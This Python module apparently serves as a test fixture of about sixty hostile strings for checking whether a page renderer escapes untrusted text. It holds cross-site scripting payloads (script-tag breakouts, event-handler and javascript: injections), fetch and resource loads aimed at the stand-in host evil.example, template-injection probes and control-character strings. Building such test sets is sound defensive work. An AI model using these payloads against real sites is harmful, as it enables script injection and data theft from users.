"""Sixty texts that are no good guests in a page. Each would leave a mark on the document, log or ask for something."""

ACT = 'document.documentElement.dataset.ran=1;console.error("ran");fetch("http://evil.example/f")'
_CALL = ACT.replace('"', "'")
_TAGS = (
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"</ScRiPt ><sCrIpT>{ACT}</sCrIpT>",
    f"</style><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"--><script>{ACT}</script><!--",
    f"]]><script>{ACT}</script>",
    f"<!--<script>{ACT}//--></script>",
    f"<svg><script>{ACT}</script></svg>",
    f"<math><mtext><script>{ACT}</script></mtext></math>",
    f"<scr<script>ipt>{ACT}</script>",
    '<script src="http://evil.example/s.js"></script>',
    '<script type="module">import "http://evil.example/m.js"</script>',
    f'<img src=x onerror="{_CALL}">',
    f"<img src=x onerror={_CALL.replace(' ', '')}>",
    '<img src="http://evil.example/i.png">',
    '<img srcset="http://evil.example/i.png 1x">',
    f'<svg onload="{_CALL}">',
    f'<body onload="{_CALL}">',
    f'<iframe srcdoc="<script>{_CALL}</script>"></iframe>',
    '<iframe src="http://evil.example/frame"></iframe>',
    f'<details open ontoggle="{_CALL}">',
    f'<input autofocus onfocus="{_CALL}">',
    f'<video><source onerror="{_CALL}"></video>',
    f'<marquee onstart="{_CALL}">',
    '<object data="http://evil.example/o"></object>',
    '<embed src="http://evil.example/e">',
    '<link rel="stylesheet" href="http://evil.example/c.css">',
    '<style>@import url("http://evil.example/c.css");</style>',
    "<style>body{background:url(http://evil.example/b.png)}</style>",
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<form action="http://evil.example/"><button autofocus>x</button></form>',
    f'<a href="javascript:{_CALL}">x</a>',
    f'<a href="data:text/html,<script>{_CALL}</script>">x</a>',
    f'<use href="data:image/svg+xml,<svg onload={_CALL}>"/>',
    '<image href="http://evil.example/i.svg"/>',
)
_ATTRIBUTES = (
    f'" onmouseover="{_CALL}" autofocus onfocus="{_CALL}',
    f"' onmouseover='{_CALL.replace(chr(39), '&#39;')}",
    '"><img src="http://evil.example/q.png">',
    "'><img src='http://evil.example/q.png'>",
    "` onerror=alert(1) `",
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"vbscript:{_CALL}",
    'x" style="background:url(http://evil.example/b.png)',
    "\\u003cscript\\u003edocument.documentElement.dataset.ran=1\\u003c/script\\u003e",
    f'"}}]}}</script><script>{ACT}</script>',
    f'";{ACT};//',
)
_TEMPLATES = ("{{ 7 * 7 }}", "{% include 'style.css' %}", "{{ self.__init__.__globals__ }}", "${7*7} #{7*7} <%= 7*7 %>")
_CONTROLS = (
    "\u202eesrever\u202c \u2066isolated\u2069 \u200f",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "\u2028line\u2029paragraph \ufeff\u0000 \x08\x7f",
    "a\u0301" * 300,
)
_LONG = ("x" * 1_200_000, "<b>" * 200_000)
TEXTS = (*_TAGS, *_ATTRIBUTES, *_TEMPLATES, *_CONTROLS, *_LONG)
